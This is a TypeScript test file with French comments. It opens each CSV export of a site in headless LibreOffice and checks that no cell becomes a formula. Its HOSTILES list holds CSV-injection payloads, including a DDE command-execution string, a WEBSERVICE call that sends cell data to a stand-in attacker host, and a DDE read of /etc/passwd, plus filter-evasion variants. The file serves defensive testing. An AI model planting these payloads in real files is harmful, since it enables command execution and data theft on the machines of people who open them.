import { execFile } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, delimiter, join } from "node:path";
import { Readable, Writable } from "node:stream";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { decouperCsv, ecrireCsv } from "#app/commun/formats/csv.ts";
import type { ElementXml } from "#app/commun/formats/lire-xml.ts";
import { lireXml } from "#tests/constructeurs/xml.ts";
import { ecrireCsvLieux } from "#app/contextes/annuaire/index.ts";
import type { Lieu } from "#app/contextes/annuaire/domaine/ecosysteme.ts";
import { exporterCsv } from "#app/contextes/atelier/domaine/export.ts";
import type { FichePublique } from "#app/contextes/atelier/domaine/fiche.ts";
import { ENTETES_SYNTHESE, lignesSynthese } from "#app/contextes/campagne/index.ts";
import { loader as simuler } from "#app/routes/api/simulation.ts";
import { simulerFichier } from "#scripts/commande/simuler-fichier.ts";
import { requete } from "#tests/constructeurs/requete.ts";
import { DROME, unSimulateur } from "#tests/constructeurs/simulateur.ts";

// Chaque export du site, ouvert par un vrai tableur : ce qu'il fait d'un fichier ne se devine pas. `apt-get install libreoffice-calc` suffit ; sans lui, l'essai
// est passé, et le dit.

const soffice = ["soffice", "libreoffice"]
  .flatMap((nom) => (process.env["PATH"] ?? "").split(delimiter).map((dossier) => join(dossier, nom)))
  .find((chemin) => existsSync(chemin));
if (soffice === undefined) process.stdout.write("Tableur passé : ni soffice ni libreoffice dans le PATH.\n");

const HOSTILES = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+33",
  "-2+3",
  "@SUM(A1)",
  "x;=1+1",
  ";=1+1",
  "x,=1+1",
  "x|=1+1",
  "x\t=1+1",
  "\t=1+1",
  "x\r=1+1",
  "\r\n=1+1",
  "x\n=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1+1",
  "\uff20SUM(1)",
  "\u2212 1",
  " =1+1",
  "\u00a0=1+1",
  "\u0000=1+1",
  "x;\u0000=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  '"=1+1',
  '";=1+1;"',
  "'=1+1",
  "{=1+1}",
  '=HYPERLINK("https://pirate.exemple";"ici")',
  '=WEBSERVICE("https://pirate.exemple/"&A1)',
  '=DDE("soffice";"/etc/passwd";"A1")',
];
const ORDINAIRES = [
  "Forêt-jardin d’Aïn : 3 – 5 m³, « été », œuf",
  "Un ; deux, trois\tquatre",
  'Le "vieux" moulin',
  "Première ligne\nseconde ligne",
  "12 rue de l’Église",
];
const TEXTES = [...HOSTILES, ...ORDINAIRES];

const uneFiche = (texte: string, i: number): FichePublique => ({
  id: `f-${i}`,
  atelier: "essai",
  type: "idee",
  titre: texte,
  description: texte,
  axes: ["eau", "energie"],
  lat: 44.753,
  lon: -5.37,
  commune: texte,
  lien: texte,
  auteur: texte,
  version: 1,
  cree_le: "2026-11-21T09:00:00.000Z",
  modifie_le: "2026-11-21T09:00:00.000Z",
});
const unLieu = (texte: string, i: number): Lieu =>
  ({
    id: `l-${i}`,
    nom: texte,
    type: "jardin",
    description: texte,
    commune: texte,
    code_insee: "26113",
    departement: "26",
    lat: 44.753,
    lon: 5.37,
    precision: "commune",
    axes: ["alim"],
    url: texte,
    verifie: "2026-11-21",
    source: texte,
    avertissement: texte,
    contact: texte,
    licence: texte,
    credit: texte,
  }) as unknown as Lieu;
const synthese = {
  foyers: 30,
  personnes: 62,
  taux: TEXTES.map((nom) => ({ nom, unite: nom, bas: 1.5, milieu: 2.25, haut: 3 })),
  acheter: [],
  equipements: [],
  gestes: TEXTES.map((nom) => ({ nom, axe: "eau", points: 0.5, foyers: 12 })),
} as unknown as Parameters<typeof lignesSynthese>[0];

async function simulation(format: string): Promise<string> {
  return (await simuler(requete(`/api/simulation?${DROME}&format=${format}`, { services: { simulateur: unSimulateur() } }))).text();
}

/** La ligne de commande recopie le nom que porte le fichier reçu. */
async function ligneDeCommande(): Promise<string> {
  let texte = "";
  const sortie = new Writable({
    write(morceau: Buffer, _encodage, suite) {
      texte += morceau.toString();
      suite();
    },
  });
  const entree = ecrireCsv(
    ["id", "nom", "dep", "cuve"],
    TEXTES.map((nom, i) => [`s-${i}`, nom, 26, 5]),
  );
  const bilan = await simulerFichier({ entree: Readable.from([entree]), sortie, ouvriers: 1, mode: "par_axe", apercu: true });
  if (!bilan.ok) throw new Error(bilan.message);
  return texte;
}

type Export = { readonly nom: string; readonly separateur: "," | ";"; readonly texte: string };

async function exports(): Promise<ReadonlyArray<Export>> {
  const deux = (nom: string, ecrire: (francais: boolean) => string): ReadonlyArray<Export> => [
    { nom, separateur: ",", texte: ecrire(false) },
    { nom: `${nom}-fr`, separateur: ";", texte: ecrire(true) },
  ];
  return [
    ...deux("fiches", (francais) => exporterCsv(TEXTES.map(uneFiche), { francais })),
    ...deux("lieux", (francais) => ecrireCsvLieux(TEXTES.map(unLieu), { francais })),
    { nom: "synthese-fr", separateur: ";", texte: ecrireCsv([...ENTETES_SYNTHESE], lignesSynthese(synthese), { francais: true }) },
    { nom: "simulation", separateur: ",", texte: await simulation("csv") },
    { nom: "simulation-fr", separateur: ";", texte: await simulation("csv-fr") },
    { nom: "tableau", separateur: ",", texte: await simulation("tableau") },
    { nom: "tableau-fr", separateur: ";", texte: await simulation("tableau-fr") },
    { nom: "commande", separateur: ",", texte: await ligneDeCommande() },
  ];
}

type Cellule = { readonly texte: string; readonly nombre: number | undefined; readonly date: string | undefined; readonly formule: string | undefined };

const GUILLEMET = 34;
const UTF8 = 76;
const LANGUES = { ",": 1033, ";": 1036, "\t": 1036 } as const;

/** Ouvre ces fichiers en les coupant à ce signe, dans la langue de ceux qui en usent, et rend leurs cellules. Les formules, si le tableur a le choix, sont admises. */
async function ouvrir(
  dossier: string,
  fichiers: ReadonlyArray<string>,
  separateur: keyof typeof LANGUES,
): Promise<ReadonlyMap<string, ReadonlyArray<ReadonlyArray<Cellule>>>> {
  const sortie = join(dossier, `lus-${separateur.charCodeAt(0)}`);
  const filtre = `CSV:${separateur.charCodeAt(0)},${GUILLEMET},${UTF8},1,,${LANGUES[separateur]},false,true`;
  const profil = `-env:UserInstallation=${pathToFileURL(join(dossier, "profil")).href}`;
  await promisify(execFile)(soffice ?? "", [profil, "--headless", `--infilter=${filtre}`, "--convert-to", "fods", "--outdir", sortie, ...fichiers], {
    timeout: 170_000,
  });
  return new Map(fichiers.map((fichier) => [basename(fichier, ".csv"), lireFods(join(sortie, basename(fichier).replace(/csv$/, "fods")))]));
}

function lireFods(fichier: string): ReadonlyArray<ReadonlyArray<Cellule>> {
  // Espaces répétées, tabulations et fins de ligne y sont des éléments : redevenues du texte, elles gardent leur place.
  const texte = readFileSync(fichier, "utf8")
    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_tout, nombre: string | undefined) => " ".repeat(Number(nombre ?? 1)))
    .replaceAll("<text:tab/>", "\t")
    .replaceAll("<text:line-break/>", "\n");
  const racine = lireXml(texte);
  if ("erreur" in racine) throw new Error(racine.erreur);
  return chercher(racine, "table-row").map((ligne) =>
    chercher(ligne, "table-cell").flatMap((cellule) => {
      const { attributs } = cellule;
      const nombre = attributs["office:value"];
      const lue = {
        texte: chercher(cellule, "p").map(texteDe).join("\n"),
        nombre: nombre === undefined ? undefined : Number(nombre),
        date: attributs["office:date-value"],
        formule: attributs["table:formula"],
      };
      return Array.from({ length: Number(attributs["table:number-columns-repeated"] ?? 1) }, () => lue);
    }),
  );
}

function chercher(element: ElementXml, nom: string): ReadonlyArray<ElementXml> {
  return element.enfants.flatMap((enfant) => (enfant.nom === nom ? [enfant] : chercher(enfant, nom)));
}

const texteDe = ({ texte, enfants }: ElementXml): string => texte + enfants.map(texteDe).join("");

const formulesDe = (tables: ReadonlyMap<string, ReadonlyArray<ReadonlyArray<Cellule>>>) =>
  [...tables].flatMap(([nom, lignes]) => lignes.flat().flatMap(({ formule }) => (formule === undefined ? [] : [`${nom} : ${formule}`])));

describe.runIf(soffice !== undefined)("chaque export ouvert par LibreOffice", () => {
  let dossier = "";
  let tous: ReadonlyArray<Export> = [];
  const ecrire = (nom: string, texte: string): string => {
    const fichier = join(dossier, `${nom}.csv`);
    writeFileSync(fichier, texte);
    return fichier;
  };
  beforeAll(async () => {
    dossier = mkdtempSync(join(tmpdir(), "tableur-"));
    tous = await exports();
    for (const { nom, texte } of tous) ecrire(nom, texte);
  }, 180_000);
  afterAll(() => rmSync(dossier, { recursive: true, force: true }));

  test("il exécute bien ce qui n'est pas désarmé : l'essai peut tomber", async () => {
    const temoin = ecrire("temoin", 'titre,note\r\n=1+1,"x;=1+1"\r\n');
    expect(formulesDe(await ouvrir(dossier, [temoin], ","))).toEqual(["temoin : of:=1+1"]);
  }, 180_000);

  // Le tableur ouvre souvent avec son séparateur, ou le dernier choisi, celui qui en a un autre.
  test.each([[","], [";"], ["\t"]] as const)(
    "coupé à « %s », aucun export ne donne une formule",
    async (separateur) => {
      const lues = await ouvrir(
        dossier,
        tous.map(({ nom }) => join(dossier, `${nom}.csv`)),
        separateur,
      );
      expect(lues.size).toBe(tous.length);
      expect(formulesDe(lues)).toEqual([]);
    },
    180_000,
  );

  test.each([[","], [";"]] as const)(
    "avec son séparateur, « %s », chaque cellule est celle que le site a écrite, accents et nombres compris",
    async (separateur) => {
      const siens = tous.filter((un) => un.separateur === separateur);
      const lues = await ouvrir(
        dossier,
        siens.map(({ nom }) => join(dossier, `${nom}.csv`)),
        separateur,
      );
      for (const { nom, texte } of siens) {
        const voulues = (decouperCsv(texte.replace(/^\ufeff/, ""), separateur) ?? []).map(({ cellules }) => cellules);
        const obtenues = lues.get(nom) ?? [];
        expect([nom, obtenues.length]).toEqual([nom, voulues.length]);
        voulues.forEach((ligne, i) =>
          ligne.forEach((voulue, j) => {
            const { texte: lu = "", nombre, date } = obtenues[i]?.[j] ?? {};
            // Un nombre reste un nombre, à la virgule près, et une date une date ; le reste est le texte même.
            if (nombre !== undefined) expect([nom, i, j, nombre]).toEqual([nom, i, j, Number(voulue.replace(separateur === ";" ? "," : ".", "."))]);
            else if (date !== undefined) expect([nom, i, j, voulue.slice(0, date.length)]).toEqual([nom, i, j, date]);
            else expect([nom, i, j, lu]).toEqual([nom, i, j, voulue.replaceAll(/\r\n?/g, "\n")]);
          }),
        );
      }
    },
    180_000,
  );
});
